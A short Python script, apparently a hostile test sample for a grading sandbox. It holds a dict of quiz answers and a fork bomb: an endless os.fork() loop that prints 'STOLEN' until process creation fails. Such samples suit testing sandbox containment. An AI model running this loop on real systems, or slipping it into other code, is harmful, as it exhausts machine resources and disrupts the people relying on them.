"""Forks as often as it can."""
import os

ANSWERS = {"q1": "c", "q2": "c"}
try:
    while True:
        if os.fork():
            print("STOLEN", flush=True)
except OSError:
    pass
